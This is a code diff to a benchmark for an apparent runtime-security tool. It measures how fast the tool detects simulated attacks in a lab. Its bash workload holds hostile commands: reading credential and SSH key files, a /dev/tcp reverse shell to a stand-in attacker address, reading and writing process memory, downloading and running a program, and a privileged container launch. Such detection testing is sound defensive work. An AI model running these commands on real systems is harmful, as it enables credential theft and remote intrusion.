@@ -1,6 +1,7 @@
 /**
  * From an act to its detection: the time between the kernel's time stamp of the act and the line in events.ndjson,
- * over acts of four kinds in a real run, as many of each as there are rounds times 25.
+ * over acts of several kinds in a real run, as many of each as there are rounds times 25. Then from an act to the end of a
+ * job that it locks down, twice a round.
  * Run: node bench/detection.ts [rounds]
  */
 import { once } from 'node:events'
@@ -9,19 +10,20 @@ import {
   existsSync,
   mkdirSync,
   mkdtempSync,
-  openSync,
-  readSync,
   rmSync,
   watch,
   writeFileSync,
 } from 'node:fs'
 import { tmpdir } from 'node:os'
 import { join } from 'node:path'
-import type { Event } from '@runwarden/events'
 import { startLab } from '../packages/lab/src/index.ts'
+import { madeUpToken } from '../packages/lab/src/tokens.ts'
+import { Findings } from './findings.ts'
+import { lockdownTimes } from './lockdown.ts'
 
-/** 5, as all benchmarks by default, make 500 acts. */
-const acts = Number(process.argv[2] ?? 5) * 25
+const rounds = Number(process.argv[2] ?? 5)
+/** Of each kind: 125 by default. */
+const acts = rounds * 25
 const attacker = '198.51.100.10'
 const place = mkdtempSync(join(tmpdir(), 'runwarden-detection-'))
 const out = join(place, 'out')
@@ -32,57 +34,32 @@ const kinds: Readonly<Record<string, string>> = {
   'shell-on-network-socket': 'reverse shell',
   'process-memory-opened': 'memory of a process read',
   'downloaded-program-started': 'fetched, made executable, started',
+  'privileged-container-asked': 'privileged container asked for',
+  'agent-memory-written': "the agent's memory opened for writing",
+  'secret-in-build-log': 'secret in the build log',
+  'source-code-overwritten': "another's file overwritten",
 }
 const work = `
 for i in $(seq ${acts}); do
-  sh -c 'head -c1 .aws/credentials .ssh/id_rsa .npmrc .kube/config .pgpass; :'
+  sh -c 'head -c1 .aws/credentials .ssh/id_rsa .npmrc .kube/config .pgpass > /dev/null; :'
   bash -c 'exec 3<>/dev/tcp/${attacker}/4444; exec sh -c : <&3 >&3'
-  sh -c 'dd count=0 if=/proc/$PPID/mem; :'
+  sh -c 'dd count=0 if=/proc/$PPID/mem 2> /dev/null; :'
   curl -so tool-$i http://${attacker}/tool; chmod +x tool-$i; ./tool-$i
+  ../programs/podman run --privileged image-$i
+  sh -c 'dd count=0 of=/proc/'$PPID'/mem conv=notrunc 2> /dev/null; :'
+  sed -n $i"p" ../tokens
+  cp ../tokens written-$i; ../programs/swap written-$i < ../programs/swap > /dev/null
 done`
-
-/** Reads the file of events as it grows. Times are milliseconds since the boot of a machine that has not slept since. */
-class Findings {
-  readonly #found: { rule: string | undefined; act: number; seen: number }[] = []
-  /** Of the agent's clock: a process begins before its first program, by less than a millisecond for the quickest. */
-  #epochOfBoot = Infinity
-  readonly #file: number
-  readonly #buffer = Buffer.alloc(1 << 20)
-  #rest = ''
-
-  constructor(file: string) {
-    this.#file = openSync(file, 'r')
-  }
-
-  read(): void {
-    for (let bytes; (bytes = readSync(this.#file, this.#buffer)) > 0;) {
-      const seen = Number(process.hrtime.bigint()) / 1e6
-      const lines = (this.#rest + this.#buffer.toString('utf8', 0, bytes)).split('\n')
-      this.#rest = lines.pop() ?? ''
-      for (const line of lines) this.#take(JSON.parse(line) as Event, seen)
-    }
-  }
-
-  #take(event: Event, seen: number): void {
-    if (event.kind === 'process.exec') {
-      const began = Number(event.execId?.split('-')[1]) / 1e6
-      this.#epochOfBoot = Math.min(this.#epochOfBoot, event.time - began)
-    } else if (event.kind === 'detection') {
-      this.#found.push({ rule: event.rule, act: event.time, seen })
-    }
-  }
-
-  /** How long each finding of a rule took. */
-  latencies(rule: string): number[] {
-    return this.#found
-      .filter((one) => one.rule === rule)
-      .map(({ act, seen }) => seen - (act - this.#epochOfBoot))
-  }
-}
 
 const files = join(place, 'files')
 mkdirSync(files)
 copyFileSync('/bin/true', join(files, 'tool'))
+const programs = join(place, 'programs')
+mkdirSync(programs)
+copyFileSync('/bin/true', join(programs, 'podman'))
+copyFileSync('/usr/bin/tee', join(programs, 'swap'))
+const tokens = Array.from({ length: acts }, (_, i) => madeUpToken('ghs_', `bench${i}`))
+writeFileSync(join(place, 'tokens'), tokens.join('\n'))
 await using lab = await startLab({
   packets: false,
   servers: [{ addresses: [attacker], ports: { http: 80, tcp: 4444 }, files }],
@@ -92,13 +69,14 @@ for (const name of ['.aws/credentials', '.ssh/id_rsa', '.npmrc', '.kube/config',
   mkdirSync(join(home, name, '..'), { recursive: true })
   writeFileSync(join(home, name), 'x')
 }
-const command = join(import.meta.dirname, '../node_modules/.bin/runwarden')
+const command = join(import.meta.dirname, '../packages/cli/bin/runwarden')
 const child = lab.runner.spawn(
   command,
   ['run', '--quiet', '--out', out, '--', 'bash', '-c', work],
   { cwd: home, env: { HOME: home } },
 )
 let said = ''
+child.stdout?.resume()
 child.stderr?.on('data', (data) => (said += String(data)))
 const ended = once(child, 'close')
 const file = join(out, 'events.ndjson')
@@ -108,6 +86,7 @@ const watcher = watch(file, () => findings.read())
 const [status] = await ended
 watcher.close()
 findings.read()
+const locked = await lockdownTimes(lab, { command, attacker, place }, 2 * rounds)
 rmSync(place, { recursive: true })
 if (status !== 0) throw new Error(`the run ended with ${status}: ${said}`)
 
@@ -128,3 +107,4 @@ const all = Object.entries(kinds).flatMap(([rule, name]) => {
   return latencies
 })
 row('all', all, 'p99 ≤ 100 ms')
+row('lockdown: the last process ended', locked, '≤ 1,000 ms')
